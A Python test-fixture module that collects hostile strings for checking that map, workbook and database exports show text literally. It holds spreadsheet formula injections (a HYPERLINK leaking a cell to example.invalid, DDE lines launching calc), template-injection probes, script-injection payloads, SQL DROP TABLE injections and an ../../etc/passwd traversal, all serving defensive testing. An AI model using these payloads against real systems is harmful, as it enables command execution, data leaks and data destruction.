"""Text that has broken maps, workbooks and databases: every export shows it literally, runs none.

Use ``HOSTILE_TEXTS`` for names, titles, markings and notes; ``hostile_names(n)`` for n names.
"""

from __future__ import annotations

FORMULAS = (
    '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")',
    "=1+1",
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '"=1+1',
    "{=1+1}",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ cycler.__init__.__globals__ }}",
    "{% raw",
    "{% for x in y %}",
    "{# never closed",
    "{{",
    "%}",
    "${alert(1)}",
    "`${alert(1)}`",
    "`",
    "%s %d %n %(name)s",
    "{0} {name!r}",
)
MARKUP = (
    "</script><script>window.hacked=1</script>",
    "</SCRIPT ><svg/onload=window.hacked=1>",
    "<img src=x onerror=window.hacked=1>",
    "<!--<script>",
    "-->",
    "]]>",
    "</title><script>window.hacked=1</script>",
    "</style><style>*{display:none}</style>",
    "<a href='javascript:window.hacked=1'>x</a>",
    "javascript:window.hacked=1",
    "https://example.invalid/",
    "mailto:someone@example.invalid",
    "&lt;b&gt; &amp; &#60;b&#62;",
    "' onmouseover='window.hacked=1",
    '" onmouseover="window.hacked=1',
    "<b>bold</b>",
    "&P&N&G&D&Z",
    "_x0041_",
)
DATABASE = ("'; DROP TABLE gpkg_contents; --", 'wards"; DROP TABLE wards; --', "NULL", "", " ")
CHARACTERS = (
    "line\u2028separator\u2029paragraph",
    "\u202eright to left\u202c",
    "\u2066isolate\u2069",
    "nul\x00inside",
    "bell\x07 escape\x1b[31m vertical\x0b delete\x7f c1\x85",
    "byte order \ufeff mark",
    "not a character \ufffe \uffff",
    "line\nfeed\r\nand\ttab",
    "zero\u200bwidth\u200djoiner",
    "e\u0301 and é",
    "emoji 🚓👮‍♀️ 𝔘𝔫𝔦",
    "Łódź Ünïcödé 東京 العربية",
)
PATHS = ("C:\\users\\name", "C:\\new\\table\\x41\\u0041", "\\\\server\\share", "../../etc/passwd")
QUOTES = ("O'Connell Street", 'The "Arndale"', "a,b;c|d", "100 % of King's & Queen's")
LONG = ("L" * 40_000, "🚓" * 20_000)

HOSTILE = (
    "{{7*7}}",
    "{% raw %}",
    "50% {# off",
    "</script><script>window.__run=1</script>",
    "<img src=x onerror=window.__run=1>",
    "</title><script>window.__run=1</script>",
    "${window.__run=1}",
    "`; window.__run=1; `",
    "C:\\users\\x",
    "ends with \\",
    "The \"Crown\" & O'Neill's",
    "&lt;b&gt; &amp;",
    "-->]]><!--",
    "a\u2028b\u2029c",
    "\u202eevil\u202c \u05d0\u05d1\u05d2",
    "javascript:window.__run=1",
    "=HYPERLINK(1)",
    "Tŷ Gwyn ✓ 🚓",
    "Very long name " * 30,
)
"""Names for a page: what runs there sets ``window.__run``."""

HOSTILE_TEXTS: tuple[str, ...] = (
    *FORMULAS,
    *TEMPLATES,
    *MARKUP,
    *DATABASE,
    *CHARACTERS,
    *PATHS,
    *QUOTES,
    *HOSTILE,
    *LONG,
)
"""Every text of the corpus, in a fixed order; the last two are very long."""

HALF_A_SURROGATE = "half a surrogate \ud800 here"
"""Kept apart: tables cannot hold it, titles and notes of a record can."""

UNWRITABLE = ("\x00", "\ud800", "\ufffe", "\uffff")
"""Characters no file format can hold; exports put U+FFFD in their place."""


def as_written(text: str) -> str:
    """The text as every export holds it."""
    for character in UNWRITABLE:
        text = text.replace(character, "\ufffd")
    return text


def hostile_names(count: int) -> list[str]:
    """So many names, going round the corpus; the shorter ones only."""
    short = [text for text in HOSTILE_TEXTS if len(text) < 1000]
    return [short[number % len(short)] for number in range(count)]
